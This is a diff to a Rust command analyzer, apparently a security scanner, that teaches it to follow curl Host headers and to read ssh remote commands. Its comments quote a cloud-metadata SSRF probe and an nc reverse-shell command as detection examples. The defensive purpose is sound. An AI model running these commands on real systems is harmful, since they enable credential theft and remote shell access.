@@ -475,6 +475,23 @@ fn rehost(url: &str, host: &str) -> String {
     format!("{scheme}://{host}{path}")
 }
 
+/// The hosts named by `Host:` request headers among `headers` (`Host: h`, `host:h:8080`; one
+/// word, no run-time part).
+fn header_hosts(headers: &[&Arg]) -> Vec<String> {
+    headers
+        .iter()
+        .filter_map(|v| {
+            let (name, value) = v.text.split_once(':')?;
+            let value = value.trim();
+            (name.trim().eq_ignore_ascii_case("host")
+                && !v.dynamic
+                && !value.is_empty()
+                && !value.contains(|c: char| c.is_whitespace() || matches!(c, '/' | '$' | '`')))
+            .then(|| value.to_string())
+        })
+        .collect()
+}
+
 fn curl(a: &mut Analyzer, inv: &Inv) -> Stream {
     let p = opts::parse(inv.rest(), CURL_VALUE, false);
     let mut urls: Vec<String> = p.operands.iter().map(|x| x.text.clone()).collect();
@@ -508,6 +525,14 @@ fn curl(a: &mut Analyzer, inv: &Inv) -> Stream {
             for u in &urls {
                 a.fetch(&rehost(u, host), &inv.evidence);
             }
+        }
+    }
+    // A `Host:` header names the site the request is for: a reverse proxy or virtual-host router
+    // at the URL's address forwards it there (`curl http://10.0.0.1/latest/meta-data/ -H 'Host:
+    // 169.254.169.254'`, the SSRF probe). A fetch of the URL's path at that host, as for a proxy.
+    for host in header_hosts(&p.values(&["-H", "--header"])) {
+        for u in &urls {
+            a.fetch(&rehost(u, &host), &inv.evidence);
         }
     }
     let cwd = inv.cwd.clone();
@@ -1265,6 +1290,28 @@ fn ssh(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
             if let Some(first) = command.first().filter(|x| x.dynamic && x.known_prefix == 0) {
                 // `ssh host "$CMD"`: code nobody can read runs on that host.
                 super::dynamic::unseen_arg(a, inv, name, first);
+            } else if command.first().is_some_and(|x| !x.dynamic) {
+                // `ssh user@$ip nc $lhost 4444 -e /bin/sh`: the program is written out and only
+                // some of its words are run-time values. The remote shell parses the words as
+                // the local one left them; read as written, a value known only at run time
+                // stays unknown, and what the program does with the rest is still seen.
+                let spelled: Vec<&str> = command
+                    .iter()
+                    .map(|x| {
+                        if x.raw.is_empty() {
+                            x.text.as_str()
+                        } else {
+                            x.raw.as_str()
+                        }
+                    })
+                    .collect();
+                super::embedded::run_remote_code(
+                    a,
+                    inv,
+                    st,
+                    &format!("ssh {host}"),
+                    &spelled.join(" "),
+                );
             }
         } else {
             super::embedded::run_remote_code(a, inv, st, &format!("ssh {host}"), &code);
